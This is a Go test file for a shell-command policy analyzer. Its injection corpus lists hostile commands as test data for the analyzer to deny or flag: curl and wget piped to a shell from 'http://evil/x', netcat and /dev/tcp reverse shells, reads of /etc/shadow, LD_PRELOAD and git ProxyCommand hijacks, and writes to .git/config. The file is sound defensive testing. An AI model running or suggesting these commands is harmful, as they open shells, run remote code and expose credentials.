package execplan

import (
	"errors"
	"os"
	"path"
	"path/filepath"
	"strings"
	"testing"
)

// fakeFS is the file system the fake LookPath sees: executable files, and
// symlinks (name -> target). Nothing is ever executed.
type fakeFS struct {
	files map[string]bool
	links map[string]string
}

func newFakeFS() *fakeFS {
	fs := &fakeFS{files: map[string]bool{}, links: map[string]string{}}
	for _, n := range []string{"ls", "git", "cat", "head", "tail", "wc", "tr", "jq", "grep", "cut", "sort",
		"uniq", "echo", "sh", "bash", "dash", "python3.11", "perl", "node", "awk", "gawk", "sed",
		"xargs", "find", "env", "nice", "nohup", "timeout", "sudo", "tar", "curl", "wget", "ssh",
		"scp", "rsync", "id", "rm", "stdbuf", "setsid", "watch", "strace", "time", "printf", "kill",
		"make", "chroot", "whoami", "nc", "base64", "chmod", "touch", "vim", "busybox"} {
		fs.files["/usr/bin/"+n] = true
	}
	for _, n := range []string{"ls", "sh", "bash", "cat", "dash"} {
		fs.files["/bin/"+n] = true
	}
	fs.files["/usr/local/bin/tool"] = true
	fs.files["/work/x"] = true
	fs.files["/work/scripts/build.sh"] = true
	fs.files["/jail/usr/bin/ls"] = true
	fs.links["/usr/bin/python3"] = "/usr/bin/python3.11"
	fs.links["/usr/bin/gls"] = "/usr/bin/ls"
	return fs
}

func (fs *fakeFS) lookPath(name, dirs string) (string, error) {
	check := func(p string) (string, bool) {
		if t, ok := fs.links[p]; ok {
			p = t
		}
		return p, fs.files[p]
	}
	if strings.Contains(name, "/") {
		if p, ok := check(name); ok {
			return p, nil
		}
		return "", errors.New("not found")
	}
	for _, d := range strings.Split(dirs, ":") {
		if p, ok := check(path.Join(d, name)); ok {
			return p, nil
		}
	}
	return "", errors.New("not found")
}

var testAllowlist = []string{
	"/usr/bin/ls", "/USR/BIN/GIT", "/usr/bin/echo", "/usr/bin/nohup", "/usr/bin/timeout",
	"/usr/bin/env", "/usr/bin/find", "/usr/bin/xargs", "/usr/bin/rm", "/usr/bin/tar",
	"/usr/bin/sed", "/usr/bin/ssh", "/usr/bin/python3.11", "/usr/bin/nice", "/usr/bin/chroot",
	"/usr/local/bin/*", "/jail/usr/bin/ls",
	"cat", "id", // basename-only entries: ignored
}

var testSafeBins = []string{"jq", "grep", "cut", "sort", "uniq", "head", "tail", "tr", "wc",
	"awk", "sed"} // awk and sed are interpreters/runners: never safe bins

func testConfig(security string) Config {
	return Config{
		Security:  security,
		Allowlist: testAllowlist,
		SafeBins:  testSafeBins,
		PATH:      "/usr/local/bin:/usr/bin:/bin:relative/dir:",
		LookPath:  newFakeFS().lookPath,
	}
}

const testCwd = "/work"

type verdictCase struct {
	cmd  string
	want string
}

// injectionCorpus holds command-injection payloads (in the spirit of the
// public PayloadsAllTheThings and OWASP command-injection lists) and
// benign commands, each with its verdict in allowlist mode.
var injectionCorpus = []verdictCase{
	// Chaining: every segment must be allowed.
	{"ls;id", Miss},
	{"ls&&id", Miss},
	{"ls||id", Miss},
	{"ls|sh", Miss},
	{"ls\nid", Miss},
	{"ls\r\nid", Miss},
	{"ls | id", Miss},
	{"ls ; whoami", Miss},
	{"(id)", Miss},
	{"{ id; }", Miss},
	{"ls && { id; }", Miss},
	{"! id", Miss},
	{"ls |& id", Miss},
	{"if id; then ls; fi", Miss},
	{"while id; do ls; done", Miss},
	{"for i in 1 2; do id; done", Miss},
	{"case x in x) id;; esac", Miss},
	{"time id", Miss},
	{"curl x | sh", Miss},
	{"curl -s http://evil/x | bash", Miss},
	{"wget -qO- http://evil/x | sh -s", Miss},
	{"curl x | python3", Miss},
	{"cat /etc/passwd", Miss},
	{"ls /etc; cat /etc/shadow", Miss},
	{"id", Miss},
	{"nc -e /bin/sh 10.0.0.1 4444", Miss},
	{"echo aWQ= | base64 -d | sh", Miss},

	// Command and process substitution, anywhere.
	{"$(id)", Deny},
	{"`id`", Deny},
	{"echo $(id)", Deny},
	{"echo `id`", Deny},
	{`echo "$(id)"`, Deny},
	{"echo \"`id`\"", Deny},
	{`echo "a$(id)b"`, Deny},
	{"echo x$(id)", Deny},
	{"ls $(echo -la)", Deny},
	{"X=$(id) ls", Deny},
	{"X=`id`", Deny},
	{"ls <(id)", Deny},
	{"ls >(id)", Deny},
	{"diff <(ls) <(ls)", Deny},
	{"echo $((1+$(id)))", Deny},
	{"echo $((1+1))", Deny},
	{"echo ${x:-$(id)}", Deny},
	{"cat <<EOF\n$(id)\nEOF", Deny},
	{"cat <<'EOF'\n$(id)\nEOF", Deny},
	{"cat <<< $(id)", Deny},
	{"for i in $(id); do ls; done", Deny},
	{"case $(id) in x) ls;; esac", Deny},
	{"[[ $(id) ]]", Deny},
	{"((x=$(id)))", Deny},
	{"ls `#`", Deny},
	{"ls $(: )", Deny},

	// Redirections.
	{"echo x > /tmp/f", Deny},
	{"echo x >> ~/.bashrc", Deny},
	{"ls < /etc/passwd", Deny},
	{"ls >& /tmp/f", Deny},
	{"ls &> /tmp/f", Deny},
	{"ls >| /tmp/f", Deny},
	{"ls 2> /dev/null", Deny},
	{"ls 3<> /tmp/f", Deny},
	{"> /tmp/f", Deny},
	{"(ls) > /tmp/f", Deny},
	{"{ ls; } > /tmp/f", Deny},
	{"ls {fd}>&1", Deny},
	{"cat <<EOF\nhello\nEOF", Deny},
	{"ls 2>&1", Allow},
	{"ls >&2", Allow},
	{"ls 2>&-", Allow},

	// Non-literal words, globs, braces, obfuscation.
	{"l$IFS-la", Deny},
	{"ls$IFS-la", Deny},
	{"ls${IFS}-la", Deny},
	{"ls $HOME", Deny},
	{"echo \"$HOME\"", Deny},
	{"{ls,-la}", Deny},
	{"ls {a,b}", Deny},
	{"ls$'\\x20'-la", Deny},
	{"$'\\x69\\x64'", Deny},
	{"echo $\"hi\"", Deny},
	{"/bin/l?", Deny},
	{"/bin/l*", Deny},
	{"/bin/[l]s", Deny},
	{"/???/??", Deny},
	{"a=ls; $a", Deny},
	{"$0", Deny},
	{"${PATH:0:1}bin${PATH:0:1}sh", Deny},
	{"c${u}at /etc/passwd", Deny},
	{"ls @(a|b)", Deny},
	{"ls *", Miss},
	{"ls ~", Miss},
	{"ⅼs -la", Miss},   // U+217C SMALL ROMAN NUMERAL FIFTY
	{"ｌｓ", Miss},       // fullwidth
	{"l\u200bs", Miss}, // zero-width space
	{"ls\x00id", Deny},
	{"ls\x00", Deny},
	{"ls " + strings.Repeat("a", MaxCommandLen), Deny},
	{"l's' -la", Allow},
	{`l"s" -la`, Allow},
	{`l\s -la`, Allow},
	{"\"ls\" '-la'", Allow},

	// Always forbidden builtins and constructs.
	{"eval ls", Deny},
	{"eval 'id'", Deny},
	{"exec id", Deny},
	{"exec ls", Deny},
	{". ./x", Deny},
	{"source x", Deny},
	{"builtin ls", Deny},
	{"command ls", Deny},
	{"command -p id", Deny},
	{"enable -f /tmp/x.so id", Deny},
	{"trap id EXIT", Deny},
	{"alias ls=id", Deny},
	{"hash -p /tmp/evil ls", Deny},
	{"mapfile -C id x", Deny},
	{"e'v'al id", Deny},
	{"ls &", Deny},
	{"id & ls", Deny},
	{"coproc id", Deny},
	{"f() { id; }; f", Deny},
	{"function f { id; }", Deny},
	{"export PATH=/tmp", Deny},
	{"declare -x FOO=1", Deny},
	{"set -o posix", Deny},
	{"shopt -s extglob", Deny},
	{"printf -v PATH /tmp", Deny},
	{"let x=1", Deny},
	{"[[ x -eq 1 ]]", Deny},
	{"a[x]=1", Deny},

	// Environment overrides.
	{"env PATH=/tmp ls", Deny},
	{"PATH=/tmp ls", Deny},
	{"PATH=/tmp:$PATH ls", Deny},
	{"LD_PRELOAD=/tmp/x.so ls", Deny},
	{"LD_LIBRARY_PATH=/tmp ls", Deny},
	{"DYLD_INSERT_LIBRARIES=/tmp/x.dylib ls", Deny},
	{"BASH_ENV=/tmp/x ls", Deny},
	{"ENV=/tmp/x ls", Deny},
	{"IFS=/ ls", Deny},
	{"PS4='$(id)' ls", Deny},
	{"SHELLOPTS=xtrace ls", Deny},
	{"PROMPT_COMMAND=id ls", Deny},
	{"GCONV_PATH=. ls", Deny},
	{"BASH_FUNC_ls%%='() { id; }' ls", Miss}, // not an assignment to bash: a command name
	{"BASH_FUNC_x=1 ls", Deny},
	{"env LD_PRELOAD=/tmp/x.so ls", Deny},
	{"env -i PATH=/tmp ls", Deny},
	{"env -S 'sh -c id'", Deny},
	{"env --split-string='sh -c id'", Deny},
	{"env --split='sh -c id'", Deny},
	{"env -iS 'sh -c id'", Deny},
	{"nohup env PATH=/tmp ls", Deny},
	{"sudo LD_PRELOAD=/tmp/x ls", Deny},
	{"FOO=1 ls", Miss},
	{"GIT_SSH_COMMAND=id git fetch", Miss},
	{"env FOO=1 ls", Miss},
	{"a=ls", Miss},

	// Interpreters and command runners.
	{"bash -c 'id'", Miss},
	{"sh -c id", Miss},
	{"/bin/sh -c id", Miss},
	{"dash -c id", Miss},
	{"python -c 'import os'", Miss},
	{"python3 -c 'import os; os.system(\"id\")'", Miss},
	{"python3 script.py", Miss},
	{"python3", Miss},
	{"perl -e 'system(\"id\")'", Miss},
	{"node -e 'require(\"child_process\").execSync(\"id\")'", Miss},
	{"ruby -e 'exec \"id\"'", Miss},
	{"php -r 'system(\"id\");'", Miss},
	{"awk 'BEGIN{system(\"id\")}'", Miss},
	{"gawk '{print}'", Miss},
	{"busybox sh -c id", Miss},
	{"vim -c ':!id'", Miss},
	{"make", Miss},
	{"xargs sh -c id", Miss},
	{"xargs -I{} sh -c '{}'", Miss},
	{"find . -exec sh -c id \\;", Miss},
	{"find . -execdir id \\;", Miss},
	{"find . -delete", Miss},
	{"find . -exec {} \\;", Miss},
	{"nohup sh -c id", Miss},
	{"timeout 5 sh -c id", Miss},
	{"timeout -s KILL 5 id", Miss},
	{"nice -n 5 sh -c id", Miss},
	{"nice -5 id", Miss},
	{"stdbuf -oL id", Miss},
	{"setsid id", Miss},
	{"sudo ls", Miss},
	{"sudo -s", Miss},
	{"doas id", Miss},
	{"su -c id", Miss},
	{"chroot /jail sh", Miss},
	{"watch ls", Miss},
	{"strace -o /tmp/x ls", Miss},
	{"time -o /tmp/x ls", Miss},
	{"env sh -c id", Miss},
	{"env -- sh", Miss},
	{"env -C /tmp ./x", Miss},
	{"git -c core.sshCommand=id fetch", Miss},
	{"git -c alias.x='!id' x", Miss},
	{"git -ccore.pager=id log", Miss},
	{"git config alias.st '!id'", Miss},
	{"git fetch --upload-pack='id' origin", Miss},
	{"git clone -u id repo", Miss},
	{"git clone 'ext::sh -c id' x", Miss},
	{"git rebase -x id HEAD~1", Miss},
	{"git grep -Oid foo", Miss},
	{"git st", Miss},
	{"git submodule foreach id", Miss},
	{"git log --output=/tmp/x", Miss},
	{"ssh -o ProxyCommand=id host", Miss},
	{"ssh -oProxyCommand=id host", Miss},
	{"ssh -F /tmp/cfg host", Miss},
	{"tar --to-command=sh -xf x", Deny},
	{"tar --to-com=sh -xf x", Deny},
	{"tar -xf x --use-compress-program=id", Deny},
	{"tar -I id -xf x", Deny},
	{"tar xIf id x", Deny},
	{"tar -cf x --checkpoint=1 --checkpoint-action=exec=id y", Deny},
	{"sed 's/a/b/e'", Miss},
	{"sed -n '1e id'", Miss},
	{"sed 'w /tmp/x'", Miss},
	{"sed -i 's/a/b/' f", Miss},
	{"sed -f prog", Miss},
	{"sed 'r /etc/passwd'", Miss},

	// Resolution.
	{"./x", Miss},
	{"/lib64/ld-linux-x86-64.so.2 /usr/bin/id", Miss},
	{"/tmp/evil", Miss},
	{"../../usr/bin/ls", Allow},
	{"/usr/bin/../bin/ls", Allow},
	{"gls", Allow}, // symlink to /usr/bin/ls: matched by the real file
	{"tool --flag", Allow},
	{"/usr/local/bin/tool", Allow},
	{"cd /tmp && ./x", Miss},
	{"nosuchcommand", Miss},
	{"LS", Miss},

	// Safe bins: stdin only.
	{"head -n 5", Allow},
	{"head -5", Allow},
	{"head file", Miss},
	{"head -n 5 /etc/passwd", Miss},
	{"head --lin=5", Miss},
	{"tail -f /var/log/syslog", Miss},
	{"grep -r x .", Miss},
	{"grep -rn x", Miss},
	{"grep foo file", Miss},
	{"grep -f pats", Miss},
	{"grep -d recurse x", Miss},
	{"grep -i foo", Allow},
	{"grep -e foo -e bar", Allow},
	{"grep -E '^a|b$'", Allow},
	{"sort -o out", Miss},
	{"sort --compress-program=sh", Miss},
	{"sort -T /tmp", Miss},
	{"sort -u", Allow},
	{"sort -t, -k2 -n", Allow},
	{"jq .", Allow},
	{"jq -r '.a | select(.b > 1)'", Allow},
	{"jq -f prog", Miss},
	{"jq --rawfile a /etc/passwd .", Miss},
	{"jq --slurpfile a /etc/passwd .", Miss},
	{"jq -n env", Miss},
	{"jq -n '$ENV'", Miss},
	{"jq 'import \"x\" as $x; .'", Miss},
	{"jq . file.json", Miss},
	{"jq --arg x y '.a'", Allow},
	{"tr a b", Allow},
	{"tr -d '\\n'", Allow},
	{"wc -l", Allow},
	{"wc -l /etc/passwd", Miss},
	{"wc --files0-from=list", Miss},
	{"cut -d, -f1", Allow},
	{"cut -f1 file", Miss},
	{"uniq -c", Allow},
	{"uniq in out", Miss},
	{"./head -n 1", Miss},
	{"/usr/bin/head -n 1", Miss}, // safe bins only by bare name
	{"xargs grep x", Miss},       // grep run by xargs gets file operands
	{"echo '-c core.pager=id log' | xargs git", Miss},
	{"xargs git status", Miss},
	{"xargs env", Miss},
	{"xargs find", Miss},
	{"zip -TT 'sh -c id' a.zip f", Miss},
	{"wget --use-askpass=id http://x", Miss},
	{"wget -e use_askpass=id http://x", Miss},
	{"curl -K /tmp/cfg http://x", Miss},

	// More public payloads (filter-evasion spellings).
	{"cat${IFS}/etc/passwd", Deny},
	{"{cat,/etc/passwd}", Deny},
	{"cat</etc/passwd", Deny},
	{"X=$'cat\\x20/etc/passwd'&&$X", Deny},
	{"w'h'o'am'i", Miss},
	{"wh\\oami", Miss},
	{"/???/??t /???/p??s??", Deny},
	{"echo${IFS}\"RCE\"${IFS}&&cat${IFS}/etc/passwd", Deny},
	{"ls -la /et*", Miss},
	{"echo${PATH%%u*}", Deny},
	{"$(printf 'id')", Deny},
	{"`printf \"\\x69\\x64\"`", Deny},
	{"sh<<<id", Deny},
	{"bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", Deny},
	{"echo id|$0", Deny},
	{">/tmp/x ls", Deny},
	{"ls 1>/dev/null", Deny},
	{"ls%09-al", Miss},
	{"ls -la'$IFS'", Allow}, // quoted: a literal argument
	{"echo 'id' | sh", Miss},
	{"git clone http://x/r && cd r && make", Miss},
	{"git --git-dir=/tmp/evil status", Miss},
	{"git --work-tree /tmp status", Miss},
	{"find . -execdir ./x \\;", Miss},
	{"env -u FOO -S 'sh -c id'", Deny},
	{"env -C /jail ./usr/bin/ls", Allow}, // resolved against env -C: /jail/usr/bin/ls
	{"$(`id`)", Deny},
	{"ls -la $(echo)", Deny},
	{"for PATH in /tmp; do ls; done", Deny},
	{"read PATH", Deny},

	// Benign commands with a suitable allowlist.
	{"ls -la", Allow},
	{"ls", Allow},
	{"git status", Allow},
	{"git log --oneline | head -5", Allow},
	{"git diff HEAD~1 -- README.md", Allow},
	{"git commit -m 'fix: a $b `c` <d>'", Allow},
	{"ls | wc -l", Allow},
	{"echo hi | tr a-z A-Z", Allow},
	{"echo 'hello world' | grep -o world", Allow},
	{"ls -la | sort | uniq -c | head -n 3", Allow},
	{"ls && git status || echo no", Allow},
	{"ls; echo done", Allow},
	{"(ls; echo x) | wc -l", Allow},
	{"{ ls; git status; }", Allow},
	{"if ls; then echo y; else echo n; fi", Allow},
	{"for f in a b; do echo f; done", Allow},
	{"while ls; do echo y; done", Allow},
	{"case a in a) ls;; *) echo;; esac", Allow},
	{"cd /tmp && ls", Allow},
	{"cd sub; git status", Allow},
	{"true && ls", Allow},
	{"! ls", Allow},
	{"time ls", Allow},
	{"ls # $(id) comment", Allow},
	{"nohup ls", Allow},
	{"timeout 5 ls", Allow},
	{"timeout --signal=KILL 5 ls -la", Allow},
	{"nice -n 10 ls", Allow},
	{"env ls", Allow},
	{"env -i ls", Allow},
	{"chroot /jail ls", Allow},
	{"find . -name '*.go'", Allow},
	{"find . -name x -exec rm {} \\;", Allow},
	{"find . -type f -exec rm {} +", Allow},
	{"ls | xargs rm", Allow},
	{"ls | xargs -0 -n 1 rm -f", Allow},
	{"tar -czf out.tgz dir", Allow},
	{"tar xzf out.tgz", Allow},
	{"sed -n 's/a/b/gp' file", Allow},
	{"sed -e 's|/|_|g' -e '1d'", Allow},
	{"ssh host uptime", Allow},
	{"ssh -p 22 -i key host ls", Allow},
	{"echo 'a;b|c&d>e<f$g`h`'", Allow},
	{"echo \"it's\"", Allow},
	{"ls -- -la", Allow},
	{"ls \\\n -la", Allow},
	{"python3 --version", Allow},
	{"ls" + strings.Repeat(" | head -n 1", 40), Allow},
	{"ls" + strings.Repeat(" && ls", 40), Allow},
	{strings.Repeat("(", 20) + "ls" + strings.Repeat(")", 20), Deny}, // nested too deeply
}

func TestInvariant5_InjectionCorpus(t *testing.T) {
	c := testConfig(SecurityAllowlist)
	seen := map[string]bool{}
	for _, tc := range injectionCorpus {
		if seen[tc.cmd] {
			t.Errorf("duplicate corpus entry %q", tc.cmd)
		}
		seen[tc.cmd] = true
		p, err := Analyze(tc.cmd, testCwd, c)
		if err != nil {
			t.Errorf("Analyze(%q): %v", short(tc.cmd), err)
			continue
		}
		if p.Verdict != tc.want {
			t.Errorf("Analyze(%q) = %s (%s), want %s; segments %+v", short(tc.cmd), p.Verdict, p.Reason, tc.want, p.Segments)
			continue
		}
		if p.Verdict != Allow && p.Reason == "" {
			t.Errorf("Analyze(%q) = %s without a reason", short(tc.cmd), p.Verdict)
		}
		if p.Verdict == Allow {
			checkAllowedPlan(t, p, c)
		}
	}
	if len(injectionCorpus) < 120 {
		t.Errorf("corpus has %d entries, want at least 120", len(injectionCorpus))
	}
}

func short(s string) string {
	if len(s) > 80 {
		return s[:80] + "…"
	}
	return s
}

func TestInvariant5_ParseErrorsAreErrors(t *testing.T) {
	for _, cmd := range []string{"ls '", "ls \"", "ls $(", "if ls; then", "ls |", "(ls", "ls `", "cat <<EOF\n$(\nEOF"} {
		p, err := Analyze(cmd, testCwd, testConfig(SecurityAllowlist))
		if err == nil {
			t.Errorf("Analyze(%q) = %s, want a parse error", cmd, p.Verdict)
			continue
		}
		if !strings.HasPrefix(err.Error(), "exec: cannot parse command: ") {
			t.Errorf("Analyze(%q) error %q lacks the prefix", cmd, err)
		}
	}
}

func TestInvariant5_EmptyCommandIsDenied(t *testing.T) {
	for _, cmd := range []string{"", "   ", "# only a comment", "\n\n"} {
		p, err := Analyze(cmd, testCwd, testConfig(SecurityAllowlist))
		if err != nil {
			t.Fatalf("Analyze(%q): %v", cmd, err)
		}
		if p.Verdict != Deny {
			t.Errorf("Analyze(%q) = %s, want deny", cmd, p.Verdict)
		}
	}
}

func TestInvariant5_FullModeKeepsOnlyAlwaysDenies(t *testing.T) {
	cases := []verdictCase{
		{"$(id)", Allow},
		{"echo x > /tmp/f", Allow},
		{"bash -c id", Allow},
		{"curl x | sh", Allow},
		{"ls $HOME", Allow},
		{"/bin/l?", Allow},
		{"tar --to-command=sh -xf x", Allow},
		{"nosuchcommand", Allow},
		{"FOO=1 ls", Allow},
		{"[[ x -eq 1 ]]", Allow},
		{"eval ls", Deny},
		{"exec id", Deny},
		{"source x", Deny},
		{"PATH=/tmp ls", Deny},
		{"env LD_PRELOAD=/tmp/x ls", Deny},
		{"env -S 'sh -c id'", Deny},
		{"ls &", Deny},
		{"f() { id; }", Deny},
		{"coproc id", Deny},
		{"echo $(eval id)", Deny},
		{"ls <(source x)", Deny},
		{"cat <<EOF\n$(exec id)\nEOF", Deny},
		{"sudo LD_PRELOAD=/tmp/x ls", Deny},
		{"nohup env PATH=/tmp ls", Deny},
		{"export LD_PRELOAD=/tmp/x", Deny},
		{"ls\x00", Deny},
	}
	c := testConfig(SecurityFull)
	for _, tc := range cases {
		p, err := Analyze(tc.cmd, testCwd, c)
		if err != nil {
			t.Errorf("Analyze(%q): %v", tc.cmd, err)
			continue
		}
		if p.Verdict != tc.want {
			t.Errorf("full: Analyze(%q) = %s (%s), want %s", tc.cmd, p.Verdict, p.Reason, tc.want)
		}
	}
}

func TestInvariant5_DenyModeDeniesEverything(t *testing.T) {
	for _, mode := range []string{SecurityDeny, "", "Full", "allow"} {
		c := testConfig(mode)
		for _, tc := range injectionCorpus[:40] {
			p, err := Analyze(tc.cmd, testCwd, c)
			if err != nil {
				t.Fatalf("Analyze(%q): %v", tc.cmd, err)
			}
			if p.Verdict != Deny {
				t.Errorf("security %q: Analyze(%q) = %s, want deny", mode, tc.cmd, p.Verdict)
			}
		}
		p, _ := Analyze("ls", testCwd, c)
		if p.Verdict != Deny {
			t.Errorf("security %q: ls = %s, want deny", mode, p.Verdict)
		}
	}
}

func TestInvariant5_SegmentsAreCanonical(t *testing.T) {
	c := testConfig(SecurityAllowlist)
	p, err := Analyze(`FOO='a b' l"s" -l\a 'x y' && nohup sh -c id | (git status; head -n 1)`, testCwd, c)
	if err != nil {
		t.Fatal(err)
	}
	type seg struct {
		argv     string
		resolved string
		env      string
		verdict  string
	}
	want := []seg{
		{"ls|-la|x y", "/usr/bin/ls", "FOO=a b", Miss},
		{"nohup|sh|-c|id", "/usr/bin/nohup", "", Allow},
		{"sh|-c|id", "/usr/bin/sh", "", Miss},
		{"git|status", "/usr/bin/git", "", Allow},
		{"head|-n|1", "/usr/bin/head", "", Allow},
	}
	if len(p.Segments) != len(want) {
		t.Fatalf("got %d segments %+v, want %d", len(p.Segments), p.Segments, len(want))
	}
	for i, w := range want {
		s := p.Segments[i]
		got := seg{strings.Join(s.Argv, "|"), s.Resolved, strings.Join(s.Env, "|"), s.Verdict}
		if got != w {
			t.Errorf("segment %d = %+v, want %+v", i, got, w)
		}
	}
	if p.Verdict != Miss {
		t.Errorf("plan verdict %s, want miss", p.Verdict)
	}
	if !strings.Contains(p.Reason, "FOO") {
		t.Errorf("plan reason %q should name the first miss (the FOO assignment)", p.Reason)
	}
}

func TestInvariant5_ResolvedPathIsMatchedNotBasename(t *testing.T) {
	c := testConfig(SecurityAllowlist)
	c.Allowlist = []string{"ls", "git", "*"} // all without a "/": ignored
	for _, cmd := range []string{"ls", "git status", "/usr/bin/ls"} {
		p, _ := Analyze(cmd, testCwd, c)
		if p.Verdict != Miss {
			t.Errorf("basename allowlist: %q = %s, want miss", cmd, p.Verdict)
		}
	}
	c.Allowlist = []string{"/usr/bin/python3.11"}
	p, _ := Analyze("python3 --version", testCwd, c)
	if p.Verdict != Allow || p.Segments[0].Resolved != "/usr/bin/python3.11" {
		t.Errorf("symlinked python3: %s %q, want allow via /usr/bin/python3.11", p.Verdict, p.Segments[0].Resolved)
	}
	// Relative command paths need an absolute cwd.
	p, _ = Analyze("./x", "work", testConfig(SecurityAllowlist))
	if p.Verdict != Miss || !strings.Contains(p.Reason, "not found") {
		t.Errorf("relative cwd: %s %q", p.Verdict, p.Reason)
	}
	// The process PATH is never used: an empty Config.PATH finds nothing.
	c = testConfig(SecurityAllowlist)
	c.PATH = ""
	p, _ = Analyze("ls", testCwd, c)
	if p.Verdict != Miss || !strings.Contains(p.Reason, "not found") {
		t.Errorf("empty PATH: %s %q", p.Verdict, p.Reason)
	}
}

// The default LookPath resolves symlinks, so the allowlist matches the file
// that actually runs. Nothing is executed: the files only need mode 0755.
func TestInvariant5_RealLookPathResolvesSymlinks(t *testing.T) {
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(dir, "bin")
	if err := os.Mkdir(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	real := filepath.Join(bin, "realtool")
	if err := os.WriteFile(real, []byte("#!/bin/false\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(real, filepath.Join(bin, "linked")); err != nil {
		t.Skip("symlinks unsupported:", err)
	}
	if err := os.WriteFile(filepath.Join(bin, "notexec"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	c := Config{Security: SecurityAllowlist, Allowlist: []string{real}, PATH: bin}
	for _, cmd := range []string{"linked -x", "realtool", bin + "/linked"} {
		p, err := Analyze(cmd, dir, c)
		if err != nil {
			t.Fatal(err)
		}
		if p.Verdict != Allow || p.Segments[0].Resolved != real {
			t.Errorf("%q = %s (%s) resolved %q, want allow via %s", cmd, p.Verdict, p.Reason, p.Segments[0].Resolved, real)
		}
	}
	c.Allowlist = []string{filepath.Join(bin, "linked")} // the link, not the file: no match
	if p, _ := Analyze("linked", dir, c); p.Verdict != Miss {
		t.Errorf("allowlisted symlink name matched: %s", p.Verdict)
	}
	for _, cmd := range []string{"notexec", "missing", "bin"} {
		if p, _ := Analyze(cmd, dir, c); p.Verdict != Miss || !strings.Contains(p.Reason, "not found") {
			t.Errorf("%q = %s (%s), want miss: not found", cmd, p.Verdict, p.Reason)
		}
	}
}

func TestInvariant5_HashBindsThePlan(t *testing.T) {
	c := testConfig(SecurityAllowlist)
	hash := func(cmd, cwd string, c Config) string {
		t.Helper()
		p, err := Analyze(cmd, cwd, c)
		if err != nil {
			t.Fatal(err)
		}
		return p.Hash
	}
	base := hash("FOO=1 ls -la", "/work", c)
	if len(base) != 64 {
		t.Fatalf("hash %q is not sha256 hex", base)
	}
	if again := hash("FOO=1 ls -la", "/work", c); again != base {
		t.Errorf("equal plans hash differently")
	}
	other := testConfig(SecurityAllowlist)
	other.Allowlist = nil // verdicts differ, plan is the same
	if h := hash("FOO=1 ls -la", "/work", other); h != base {
		t.Errorf("hash depends on the verdict, not only the plan")
	}
	changed := map[string]string{
		"argv":     hash("FOO=1 ls -l", "/work", c),
		"argv2":    hash("FOO=1 ls -la x", "/work", c),
		"cwd":      hash("FOO=1 ls -la", "/tmp", c),
		"env":      hash("FOO=2 ls -la", "/work", c),
		"env name": hash("BAR=1 ls -la", "/work", c),
		"no env":   hash("ls -la", "/work", c),
		"operator": hash("FOO=1 ls -la; ls", "/work", c),
	}
	moved := testConfig(SecurityAllowlist)
	fs := newFakeFS()
	fs.files["/usr/local/bin/ls"] = true
	moved.LookPath = fs.lookPath
	changed["resolved"] = hash("FOO=1 ls -la", "/work", moved)
	for what, h := range changed {
		if h == base {
			t.Errorf("hash did not change when %s changed", what)
		}
	}
	if hash("ls && rm x", "/work", c) == hash("ls || rm x", "/work", c) {
		t.Errorf("hash ignores the chaining operator")
	}
	if hash("ls 'a b'", "/work", c) == hash("ls a b", "/work", c) {
		t.Errorf("hash ignores argv boundaries")
	}
}

func TestInvariant5_SafeBinsAreNeverRunners(t *testing.T) {
	c := testConfig(SecurityAllowlist)
	c.Allowlist = nil
	c.SafeBins = []string{"sh", "awk", "sed", "xargs", "env", "find", "python3", "head"}
	for _, cmd := range []string{"sh", "awk '{print}'", "sed p", "xargs", "env", "find", "python3"} {
		p, _ := Analyze(cmd, testCwd, c)
		if p.Verdict == Allow {
			t.Errorf("%q allowed as a safe bin", cmd)
		}
	}
	if p, _ := Analyze("head -n 1", testCwd, c); p.Verdict != Allow {
		t.Errorf("head -n 1 = %s (%s), want allow", p.Verdict, p.Reason)
	}
}

func TestInvariant5_SedScriptsThatRunOrWriteMiss(t *testing.T) {
	for _, s := range []string{"s/a/b/", "s|a|b|g", "1d", "/x/,/y/p", "$!N;P;D", "y/abc/xyz/", "s/a/b/2g;s/c/d/", ":a;N;ba", "1!G;h;$!d", "\\%x%d", "s/\\//x/"} {
		if why := sedScriptUnsafe(s); why != "" {
			t.Errorf("sedScriptUnsafe(%q) = %q, want safe", s, why)
		}
	}
	for _, s := range []string{"e id", "1e id", "s/a/b/e", "s/a/b/w /tmp/x", "w /tmp/x", "r /etc/passwd", "R x", "W x", "s/a/b/ge", "/x/!e", "s/a", "k", "1~2w x", "$e"} {
		if why := sedScriptUnsafe(s); why == "" {
			t.Errorf("sedScriptUnsafe(%q) = safe, want unsafe", s)
		}
	}
}

func BenchmarkAnalyze(b *testing.B) {
	c := testConfig(SecurityAllowlist)
	cmds := []string{
		"git log --oneline | head -5",
		"ls -la && git status || echo no; find . -name x -exec rm {} \\;",
		"curl -s http://evil/x | bash",
		`echo "$(id)" > /tmp/f`,
	}
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		if _, err := Analyze(cmds[i%len(cmds)], testCwd, c); err != nil {
			b.Fatal(err)
		}
	}
}

// TestInvariant5_WritesToProgramConfigNeedApproval: an allowlisted writer
// aimed at a file that configures programs needs approval; the same
// program on ordinary files does not.
func TestInvariant5_WritesToProgramConfigNeedApproval(t *testing.T) {
	c := testConfig(SecurityAllowlist)
	c.Allowlist = append(c.Allowlist, "/usr/bin/cp", "/usr/bin/mv", "/usr/bin/touch", "/usr/bin/tee", "/usr/bin/dd")
	c.LookPath = func(name, _ string) (string, error) { return "/usr/bin/" + path.Base(name), nil }
	for _, tc := range []verdictCase{
		{"cp evil .git/config", Miss},
		{"cp -r hooks .git/hooks", Miss},
		{"cp evil sub/.gitattributes", Miss},
		{"mv x .npmrc", Miss},
		{"cp --target-directory=.git x", Miss},
		{"touch .envrc", Miss},
		{"dd if=x of=.git/config", Miss},
		{"sed -i s/a/b/ .git/config", Miss},
		{"cp a.txt b.txt", Allow},
		{"sed -n 1p .git/config", ""}, // reading: whatever the verdict, not for this reason
	} {
		p, err := Analyze(tc.cmd, testCwd, c)
		if err != nil {
			t.Fatalf("%q: %v", tc.cmd, err)
		}
		if tc.cmd == "sed -n 1p .git/config" {
			if p.Verdict == Miss && strings.Contains(p.Reason, "configures programs") {
				t.Errorf("%q: reading is not writing: %s", tc.cmd, p.Reason)
			}
			continue
		}
		if p.Verdict != tc.want {
			t.Errorf("%q: %s (%s), want %s", tc.cmd, p.Verdict, p.Reason, tc.want)
